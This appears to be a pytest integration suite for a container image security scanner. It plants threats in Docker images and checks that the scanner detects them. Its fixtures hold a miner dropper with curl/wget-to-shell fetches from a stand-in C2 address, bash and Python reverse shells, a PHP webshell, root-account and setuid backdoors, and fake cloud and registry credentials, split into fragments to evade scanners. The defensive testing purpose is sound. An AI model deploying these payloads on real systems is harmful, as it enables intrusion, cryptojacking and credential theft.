"""Planted-threat scenarios built by a real dockerd, scanned end to end.

Each scenario is one Dockerfile on the imported busybox base, built the way users build images (COPY
of files from the context, RUN steps that write, copy, chmod and delete, ENV, VOLUME, ARG passed as a
build argument). Every planted artifact must be found at severity medium or above, on the right path
and layer, with `in_final_image` right and `created_by` holding the Dockerfile line that made it.

The hostile content is assembled at test time from fragments, random values (seeded) and freshly
generated keys, so that this file itself does not look like malware or a leaked secret to scanners.

Then the same findings must come out of the daemon reference, `docker save`, an oci-archive (gzip)
and an OCI layout with zstd layers; and the CLI's SARIF must validate against the SARIF 2.1.0 schema,
with `--fail-on high` giving 1 on a planted image and 0 on the plain base.
"""

from __future__ import annotations

import base64
import json
import os
import random
import string
import struct
import subprocess
import sys
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from dockerkit import write_context
from explorer.detectors.base import ScanOptions
from explorer.detectors.registry import build_detectors
from explorer.detectors.token_checksums import with_checksum
from explorer.scan.engine import scan
from explorer.core.findings import at_least
from explorer.sources import open_image

pytestmark = pytest.mark.docker

REPO = Path(__file__).resolve().parents[2]
SARIF_SCHEMA = REPO / "tests" / "data" / "sarif-2.1.0-rtm.5.json"
J = "".join


# -- hostile content, assembled at test time ---------------------------------------------------------

RNG = random.Random(20240601)
ALNUM = string.ascii_letters + string.digits


def rand(n: int, alphabet: str = ALNUM) -> str:
    return J(RNG.choice(alphabet) for _ in range(n))


def elf(payload: bytes) -> bytes:
    """A small well-formed ELF64 x86-64 executable (header + one PT_LOAD) followed by `payload`."""
    total = 64 + 56 + len(payload)
    ehdr = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, 2, 62, 1, 0x400078, 64, 0, 0,
                       64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, total, total, 0x1000)
    return ehdr + phdr + payload


_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_B58_SIZES = (0, 2, 3, 5, 6, 7, 9, 10, 11)


def monero_address() -> str:
    """A checksum-valid standard Monero address (network byte 18, random keys): 95 chars, starts with 4."""
    from Crypto.Hash import keccak

    body = bytes([18]) + RNG.randbytes(64)
    data = body + keccak.new(data=body, digest_bits=256).digest()[:4]
    out = []
    for i in range(0, len(data), 8):
        block = data[i:i + 8]
        n, chars = int.from_bytes(block, "big"), []
        for _ in range(_B58_SIZES[len(block)]):
            n, r = divmod(n, 58)
            chars.append(_B58[r])
        out.append(J(reversed(chars)))
    address = J(out)
    assert len(address) == 95 and address[0] == "4"
    return address


WALLET = monero_address()
POOL_HOST = J(["pool.", "supp", "ortxmr", ".com"])
STRATUM = J(["strat", "um+tcp://", POOL_HOST, ":3333"])
C2 = "203.0.113.77"
MINER = J(["xm", "rig"])

MINER_BLOB = elf(b"\0" * 512 + J([
    "\0", "XM", "Rig 6.21.0\0", " * ABOUT        XM", "Rig/6.21.0 gcc/11.2.0\0",
    "--don", "ate-level=N     donate level, default 1%\0", "--rand", "omx-1gb-pages\0",
    "--cpu-pri", "ority\0", "--rand", "omx-mode\0", "r", "x/0\0", "crypto", "night\0", "crypto", "night/r\0",
    STRATUM, "\0", "Usage: ", MINER, " [OPTIONS]\0",
]).encode() + b"\0" * 256)

MINER_CONFIG = json.dumps({
    "autosave": True,
    "cpu": {"enabled": True, "huge-pages": True, J(["max-threads", "-hint"]): 100},
    J(["don", "ate-level"]): 0,
    "pools": [{"algo": J(["r", "x/0"]), "url": f"{POOL_HOST}:443", "user": WALLET, "pass": "x",
               "keepalive": True, "tls": True}],
}, indent=4).encode()

DROPPER = J([
    "#!/bin/sh\n",
    "pkill -9 -f kdev", "tmpfsi; pkill -9 -f kin", "sing; killall -9 ", MINER, " 2>/dev/null\n",
    "ps aux | grep -v grep | grep -E 'mine", "rd|", MINER, "|kdev", "tmpfsi' | awk '{print $2}' | xargs kill -9\n",
    f"curl -fsSL http://{C2}/x/kworker -o /usr/sbin/kworker || wget -q http://{C2}/x/kworker -O /usr/sbin/kworker\n",
    f"curl -fsSL http://{C2}/x/init.sh | sh\n",
    "chmod +x /usr/sbin/kworker\n",
    "while true; do\n",
    "  if ! pgrep -f /usr/sbin/kworker >/dev/null; then\n",
    "    nohup /usr/sbin/kworker -c /etc/kworker/config.json >/dev/null 2>&1 &\n",
    "  fi\n  sleep 60\ndone\n",
]).encode()

CRON_REVSHELL = J(["*/5 * * * * root /bin/bash -c 'bash -i >& /dev", f"/tcp/{C2}/4444 0>&1'\n"]).encode()
PY_REVSHELL = J([
    "import socket, subprocess, os\n",
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n",
    f"s.connect((\"{C2}\", 4445))\n",
    "os.du", "p2(s.fileno(), 0)\nos.du", "p2(s.fileno(), 1)\nos.du", "p2(s.fileno(), 2)\n",
    "p = subprocess.call([\"/bin/sh\", \"-i\"])\n",
]).encode()
PHP_WEBSHELL = J(["<?php\nif (isset($_REQUEST['c'])) {\n    echo '<pre>';\n    sys", "tem($_REQUEST['c']);\n",
                  "    echo '</pre>';\n}\n?>\n"]).encode()
AUTHORIZED_KEY = ("ssh-ed25519 " + base64.b64encode(
    struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + RNG.randbytes(32)).decode()
    + " ops@build\n").encode()

AWS_KEY_ID = J(["AK", "IA"]) + rand(16, string.ascii_uppercase + "234567")
AWS_SECRET = rand(40, ALNUM + "/+")
GITHUB_TOKEN = with_checksum(J(["gh", "p_"]), rand(36))  # well-formed: a token failing its CRC32 is an example (low)
NPM_TOKEN = with_checksum(J(["np", "m_"]), rand(36))
STRIPE_KEY = J(["sk", "_li", "ve_"]) + rand(32)
GITLAB_TOKEN = J(["gl", "pat-"]) + rand(20)
REGISTRY_AUTH = base64.b64encode(f"deploy:{rand(24)}".encode()).decode()


def private_key_pem() -> bytes:
    from Crypto.PublicKey import RSA
    return RSA.generate(2048, randfunc=lambda n: RNG.randbytes(n)).export_key("PEM")


# -- scenarios -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Expect:
    """A planted artifact: which rules may report it, where, and what the finding must say."""

    rules: frozenset[str]
    path: str | None
    layer: int | None
    created_by: str
    """Fragment of the layer's history line (COPY: ` in DEST`; RUN: the command)."""
    in_final: bool = True
    floor: str = "medium"
    source: str = "file"
    exact: str | None = None
    """Severity the finding must have exactly (when the contract fixes it, e.g. root user: low)."""


def expect(rules, path, layer, created_by, **kw) -> Expect:
    return Expect(frozenset([rules] if isinstance(rules, str) else rules), path, layer, created_by, **kw)


BASE = "FROM explorer-it/busybox:base\n"

MINER_DOCKERFILE = BASE + """\
COPY kworker /usr/sbin/kworker
COPY config.json /etc/kworker/config.json
COPY update.sh /usr/local/bin/update.sh
CMD ["/usr/local/bin/update.sh"]
"""
MINER_FILES = {"kworker": (MINER_BLOB, 0o755), "config.json": MINER_CONFIG, "update.sh": (DROPPER, 0o755)}
MINER_EXPECT = [
    expect({"miner.xmrig-strings", "miner.stratum-url", "miner.pool-host"}, "/usr/sbin/kworker", 1,
           " in /usr/sbin/kworker", floor="high"),
    expect({"miner.xmrig-config", "miner.wallet-with-pool", "miner.monero.pool-config", "miner.monero-wallet",
            "miner.monero.wallet-address"}, "/etc/kworker/config.json", 2, " in /etc/kworker/config.json",
           floor="high"),
    expect({"miner.dropper-script", "miner.competitor-killer", "miner.keepalive"}, "/usr/local/bin/update.sh", 3,
           " in /usr/local/bin/update.sh", floor="high"),
]

SETUID_RUN = "mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/bash && chmod u+s /usr/local/bin/bash"
DISGUISED_SETUID_RUN = "mkdir -p /usr/bin && cp /bin/busybox /usr/bin/sysinfo && chmod 4755 /usr/bin/sysinfo"
PRELOAD_RUN = "echo /usr/local/lib/libnss_cache.so.2 > /etc/ld.so.preload"
PASSWD_RUN = "echo 'sysadm:x:0:0:system:/root:/bin/sh' >> /etc/passwd"
SHADOW_RUN = ("printf 'root:*:19700:0:99999:7:::\\nsysadm::19700:0:99999:7:::\\napp:!:19700:0:99999:7:::\\n' "
              "> /etc/shadow && chmod 0640 /etc/shadow")
PNG_RUN = "mkdir -p /var/www/html/static && cp /bin/busybox /var/www/html/static/logo.png"
HIDDEN_RUN = "mkdir -p /tmp/.hidden && cp /bin/busybox /tmp/.hidden/kthreadd && chmod 755 /tmp/.hidden/kthreadd"
BACKDOOR_DOCKERFILE = BASE + f"""\
COPY backup /etc/cron.d/backup
COPY sync.py /opt/app/sync.py
COPY cache.php /var/www/html/wp-content/uploads/cache.php
RUN {PRELOAD_RUN}
RUN {PASSWD_RUN}
RUN {SHADOW_RUN}
COPY ops /etc/sudoers.d/ops
COPY authorized_keys /root/.ssh/authorized_keys
RUN {SETUID_RUN}
RUN {PNG_RUN}
RUN {HIDDEN_RUN}
RUN {DISGUISED_SETUID_RUN}
"""
BACKDOOR_FILES = {"backup": CRON_REVSHELL, "sync.py": PY_REVSHELL, "cache.php": PHP_WEBSHELL,
                  "ops": ("ops ALL=(ALL) NOPASSWD: ALL\n", 0o440), "authorized_keys": (AUTHORIZED_KEY, 0o600)}
BACKDOOR_EXPECT = [
    expect({"backdoor.revshell-bash-dev-tcp", "backdoor.persistence.dev-tcp"}, "/etc/cron.d/backup", 1,
           " in /etc/cron.d/backup", floor="high"),
    expect("backdoor.revshell-python", "/opt/app/sync.py", 2, " in /opt/app/sync.py", floor="high"),
    expect({"backdoor.webshell-php", "backdoor.webshell-php-obfuscated"},
           "/var/www/html/wp-content/uploads/cache.php", 3, " in /var/www/html/wp-content/uploads/cache.php",
           floor="high"),
    expect("backdoor.preload.ld-so-preload", "/etc/ld.so.preload", 4, PRELOAD_RUN, floor="high"),
    expect("backdoor.accounts.second-uid0", "/etc/passwd", 5, PASSWD_RUN, floor="high"),
    expect("backdoor.accounts.empty-password", "/etc/shadow", 6, SHADOW_RUN, floor="high"),  # uid-0 account
    expect("backdoor.accounts.sudoers-nopasswd", "/etc/sudoers.d/ops", 7, " in /etc/sudoers.d/ops"),
    expect("backdoor.ssh.authorized-keys", "/root/.ssh/authorized_keys", 8, " in /root/.ssh/authorized_keys",
           floor="high"),
    expect("backdoor.setuid.shell", "/usr/local/bin/bash", 9, SETUID_RUN, floor="high"),
    expect("suspicious.disguise.extension-mismatch", "/var/www/html/static/logo.png", 10, PNG_RUN, floor="high"),
    expect("suspicious.dropped.executable", "/tmp/.hidden/kthreadd", 11, HIDDEN_RUN, floor="high"),
]
DISGUISED_SETUID = expect({"backdoor.setuid.shell", "backdoor.setuid.hidden-or-temp", "suspicious.setuid.added"},
                          "/usr/bin/sysinfo", 12, DISGUISED_SETUID_RUN)

NPM_RUN = "echo $NPM_TOKEN > /dev/null"
CLONE_RUN = (f"git clone https://oauth2:{GITLAB_TOKEN}@gitlab.acme-corp.io/ops/deploy.git /src "
             "|| echo clone failed")
SECRETS_DOCKERFILE = BASE + f"""\
ARG NPM_TOKEN
ENV STRIPE_SECRET_KEY={STRIPE_KEY}
COPY credentials /root/.aws/credentials
COPY app.env /srv/app/.env
COPY deploy.pem /srv/app/deploy.pem
RUN rm /srv/app/.env
COPY config.json /root/.docker/config.json
RUN {NPM_RUN}
RUN {CLONE_RUN}
"""
SECRETS_FILES = {
    "credentials": f"[default]\naws_access_key_id = {AWS_KEY_ID}\naws_secret_access_key = {AWS_SECRET}\n"
                   "region = eu-west-1\n",
    "app.env": f"APP_ENV=production\nGITHUB_TOKEN={GITHUB_TOKEN}\nLOG_LEVEL=info\n",
    "deploy.pem": (private_key_pem(), 0o600),
    "config.json": json.dumps({"auths": {"registry.acme-corp.io": {"auth": REGISTRY_AUTH}}}, indent=1),
}
SECRETS_EXPECT = [
    expect({"secret.aws-credentials-file", "secret.aws-secret-access-key", "secret.aws-access-key-id"},
           "/root/.aws/credentials", 1, " in /root/.aws/credentials", floor="high"),
    expect({"secret.github-pat", "secret.dotenv-secret"}, "/srv/app/.env", 2, " in /srv/app/.env",
           in_final=False, floor="high"),
    expect({"secret.private-key-rsa", "secret.private-key-pem"}, "/srv/app/deploy.pem", 3,
           " in /srv/app/deploy.pem", floor="high"),
    expect("secret.docker-config-auth", "/root/.docker/config.json", 5, " in /root/.docker/config.json",
           floor="high"),
    expect({"secret.stripe-secret-key", "secret.env-secret-name"}, None, None, "", source="config", floor="high"),
    # RUN steps that change no file are empty-layer history entries (layer null) with the classic builder
    expect({"secret.npm-token", "secret.build-arg"}, None, None, f" /bin/sh -c {NPM_RUN}", source="history"),
    expect({"secret.gitlab-pat", "secret.url-credentials", "secret.command-line-credential"}, None, None,
           CLONE_RUN.split(GITLAB_TOKEN)[1], source="history", floor="high"),
    # every RUN after the ARG carries the build argument, also the one that made layer 4
    expect({"secret.npm-token", "secret.build-arg"}, None, 4, " /bin/sh -c rm /srv/app/.env", source="history"),
]

FETCH_RUN = f"wget -O- http://{C2}/setup.sh | sh || true"
CONFIG_DOCKERFILE = BASE + f"""\
RUN {FETCH_RUN}
ENV DOCKER_HOST=tcp://10.20.0.5:2375
VOLUME /var/run/docker.sock
CMD ["sh"]
"""
CONFIG_EXPECT = [
    expect("suspicious.history.download-exec", None, None, FETCH_RUN, source="history"),
    expect({"misconfig.config.docker-socket", "misconfig.config.sensitive-volume"}, None, None, "", source="config"),
    expect("misconfig.config.docker-host-plaintext", None, None, "", source="config"),
    expect("misconfig.config.root-user", None, None, "", source="config", floor="low", exact="low"),
]

SCENARIOS = {
    "miner": (MINER_DOCKERFILE, MINER_FILES, {}, MINER_EXPECT),
    "backdoors": (BACKDOOR_DOCKERFILE, BACKDOOR_FILES, {}, BACKDOOR_EXPECT),
    "secrets": (SECRETS_DOCKERFILE, SECRETS_FILES, {"NPM_TOKEN": NPM_TOKEN}, SECRETS_EXPECT),
    "config": (CONFIG_DOCKERFILE, {}, {}, CONFIG_EXPECT),
}


# -- fixtures --------------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def scenario_image(docker_client, busybox_base, tmp_path_factory):
    """scenario_image(name) -> reference, built once per session (build args passed with `buildargs`)."""
    from docker.errors import BuildError

    built: dict[str, str] = {}

    def get(name: str) -> str:
        if name in built:
            return built[name]
        dockerfile, files, buildargs, _ = SCENARIOS[name]
        context = tmp_path_factory.mktemp(f"scan-{name}")
        write_context(context, dockerfile, files)
        ref = f"explorer-it/scan-{name}:latest"
        try:
            docker_client.images.build(path=str(context), tag=ref, network_mode="none", rm=True, forcerm=True,
                                       pull=False, buildargs=buildargs or None)
        except BuildError as exc:
            log = J(str(chunk.get("stream", chunk.get("error", ""))) for chunk in exc.build_log)
            pytest.fail(f"docker build of scenario {name} failed: {exc}\n{log[-3000:]}", pytrace=False)
        built[name] = ref
        return ref

    return get


@pytest.fixture(scope="session")
def detectors():
    return build_detectors(ScanOptions())


@pytest.fixture(scope="session")
def scan_ref(detectors):
    """scan_ref(IMAGE) -> ScanResult, cached per argument for the session."""
    cache = {}

    def run(image: str):
        if image not in cache:
            source = open_image(image)
            try:
                cache[image] = scan(source, detectors, ScanOptions())
                cache[image].history = list(source.config.history)
            finally:
                source.close()
        return cache[image]

    return run


def describe(findings) -> str:
    return "\n".join(f"  {f.severity:8} {f.rule_id:45} src={f.source} L{f.layer} {f.path} final={f.in_final_image} "
                     f"{f.evidence[:60]!r}" for f in findings) or "  (none)"


def check(result, want: Expect) -> None:
    """Assert the planted artifact was found as `want` says."""
    where = [f for f in result.findings if f.source == want.source and f.path == want.path and
             (want.source == "config" or f.layer == want.layer) and
             (want.source != "history" or want.created_by in f.created_by)]
    hits = [f for f in where if f.rule_id in want.rules]
    assert hits, (f"nothing from {sorted(want.rules)} on {want.source} {want.path} layer {want.layer}; "
                  f"there:\n{describe(where)}\nall findings:\n{describe(result.findings)}")
    best = max(hits, key=lambda f: at_least(f.severity, want.floor))
    if want.exact:
        assert best.severity == want.exact, describe(hits)
    assert at_least(best.severity, want.floor), f"below {want.floor}:\n{describe(hits)}"
    for f in hits:
        assert f.in_final_image is want.in_final, describe(hits)
        assert want.created_by in f.created_by, (f.created_by, want.created_by)
        if want.layer is not None and f.layer_digest:
            assert f.layer_digest == result.analysis.layers[want.layer].stats.digest
    if want.layer is not None:
        assert want.created_by in result.analysis.layers[want.layer].ref.created_by
    elif want.source == "history":
        entries = [h for h in result.history if want.created_by in h.created_by]
        assert entries and all(h.layer is None for h in entries), entries


# -- detection -------------------------------------------------------------------------------------

def _cases():
    for name, (_, _, _, expectations) in SCENARIOS.items():
        for want in expectations:
            label = f"{name}:{want.path or want.source}:{sorted(want.rules)[0]}"
            yield pytest.param(name, want, id=label)


@pytest.mark.parametrize("name, want", list(_cases()))
def test_planted_artifact_is_found(scenario_image, scan_ref, name, want):
    result = scan_ref(scenario_image(name))
    assert not result.errors, result.errors
    check(result, want)


def test_setuid_shell_under_an_innocent_name(scenario_image, scan_ref):
    check(scan_ref(scenario_image("backdoors")), DISGUISED_SETUID)


def test_secret_evidence_is_masked(scenario_image, scan_ref):
    result = scan_ref(scenario_image("secrets"))
    secrets = [AWS_SECRET, GITHUB_TOKEN, NPM_TOKEN, STRIPE_KEY, GITLAB_TOKEN, REGISTRY_AUTH]
    for f in result.findings:
        for value in secrets:
            assert value not in f.evidence, f"{f.rule_id} prints a whole secret: {f.evidence!r}"
            assert value[8:] not in f.evidence, f"{f.rule_id} prints most of a secret: {f.evidence!r}"
            assert value[8:] not in f.created_by, f"{f.rule_id} history line unmasked: {f.created_by!r}"


def test_deleted_env_file_keeps_its_layer(scenario_image, scan_ref):
    """The .env copy deleted by `RUN rm` two layers later is reported in its own layer, not the deleting one."""
    result = scan_ref(scenario_image("secrets"))
    env = [f for f in result.findings if f.path == "/srv/app/.env"]
    assert env and {f.layer for f in env} == {2}, describe(env)
    assert "rm /srv/app/.env" in result.analysis.layers[4].ref.created_by
    assert [e.path for e in result.analysis.layers[4].changes.deleted] == ["/srv/app/.env"]


def test_base_image_raises_nothing_high(busybox_base, scan_ref):
    result = scan_ref(f"docker-daemon:{busybox_base}")
    loud = [f for f in result.findings if at_least(f.severity, "high")]
    assert not loud, describe(loud)
    assert any(f.rule_id == "misconfig.config.root-user" and f.severity == "low" for f in result.findings), \
        describe(result.findings)


# -- the same answer from every form ----------------------------------------------------------------

def _key(result):
    return sorted((f.rule_id, f.source, -1 if f.layer is None else f.layer, f.path or "", f.in_final_image,
                   f.severity, f.created_by) for f in result.findings)


def _layer_media_types(layout_or_archive: Path) -> set[str]:
    def blobs(read):
        index = json.loads(read("index.json"))
        out = set()
        for desc in index["manifests"]:
            manifest = json.loads(read("blobs/" + desc["digest"].replace(":", "/")))
            out |= {layer["mediaType"] for layer in manifest["layers"]}
        return out

    if layout_or_archive.is_dir():
        return blobs(lambda name: (layout_or_archive / name).read_bytes())
    with tarfile.open(layout_or_archive) as tar:
        return blobs(lambda name: tar.extractfile(name).read())


@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_same_findings_in_every_form(scenario_image, scan_ref, save_image, skopeo_copy, tmp_path, name):
    ref = scenario_image(name)
    archive = save_image(ref, tmp_path / "saved.tar")
    oci_archive = tmp_path / "image.oci.tar"
    layout = tmp_path / "layout"
    skopeo_copy(f"docker-archive:{archive}", f"oci-archive:{oci_archive}:latest",
                "--dest-compress-format", "gzip")
    skopeo_copy(f"docker-archive:{archive}", f"oci:{layout}:latest", "--dest-compress-format", "zstd")
    assert _layer_media_types(oci_archive) == {"application/vnd.oci.image.layer.v1.tar+gzip"}
    assert _layer_media_types(layout) == {"application/vnd.oci.image.layer.v1.tar+zstd"}

    forms = {"daemon": f"docker-daemon:{ref}", "docker-archive": f"docker-archive:{archive}",
             "oci-archive": f"oci-archive:{oci_archive}", "oci-zstd": f"oci:{layout}:latest"}
    keys = {form: _key(scan_ref(image)) for form, image in forms.items()}
    planted = [w for w in SCENARIOS[name][3]]
    assert len(keys["daemon"]) >= len(planted)
    for form, key in keys.items():
        assert key == keys["daemon"], (
            f"{form} differs from the daemon reference:\n only {form}: {sorted(set(key) - set(keys['daemon']))}"
            f"\n only daemon: {sorted(set(keys['daemon']) - set(key))}")
    for form, image in forms.items():
        for want in planted:
            check(scan_ref(image), want)


# -- the command line ------------------------------------------------------------------------------

def _cli(*args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    return subprocess.run([sys.executable, "-m", "explorer", "scan", *args, "--no-progress"],
                          capture_output=True, text=True, timeout=600, env=env, cwd=str(REPO / "tests"))


def test_cli_sarif_validates(scenario_image, scan_ref):
    import jsonschema

    ref = scenario_image("secrets")
    done = _cli(ref, "--format", "sarif")
    assert done.returncode == 0, done.stderr
    doc = json.loads(done.stdout)
    schema = json.loads(SARIF_SCHEMA.read_text())
    jsonschema.validate(doc, schema, cls=jsonschema.Draft7Validator)
    assert doc["version"] == "2.1.0" and len(doc["runs"]) == 1
    run = doc["runs"][0]
    rule_ids = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    results = run["results"]
    assert {r["ruleId"] for r in results} <= rule_ids
    assert len(results) == len(scan_ref(ref).findings)
    uris = {loc["physicalLocation"]["artifactLocation"]["uri"]
            for r in results for loc in r.get("locations", []) if "physicalLocation" in loc}
    assert "layer/2/srv/app/.env" in uris, sorted(uris)
    assert GITHUB_TOKEN not in done.stdout and AWS_SECRET not in done.stdout


@pytest.mark.parametrize("fmt", ["json", "sarif", "table"])
def test_reports_do_not_print_history_secrets(scenario_image, fmt):
    """Secrets on RUN/ENV/ARG lines are masked in `created_by` too, not only in `evidence`."""
    done = _cli(scenario_image("secrets"), "--format", fmt)
    assert done.returncode == 0, done.stderr
    assert "/srv/app/.env" in done.stdout
    for value in (NPM_TOKEN, GITLAB_TOKEN, STRIPE_KEY):
        assert value not in done.stdout, f"{value[:8]}… printed whole in the {fmt} report"
        assert value[8:] not in done.stdout, f"{value[:8]}… printed nearly whole in the {fmt} report"


def test_cli_fail_on_high(scenario_image, busybox_base):
    planted = _cli(scenario_image("miner"), "--format", "json", "--fail-on", "high")
    assert planted.returncode == 1, planted.stderr
    doc = json.loads(planted.stdout)
    assert doc["summary"]["critical"] + doc["summary"]["high"] >= 1
    clean = _cli(busybox_base, "--format", "json", "--fail-on", "high")
    assert clean.returncode == 0, clean.stderr + clean.stdout[-2000:]
    assert json.loads(clean.stdout)["summary"]["high"] == 0
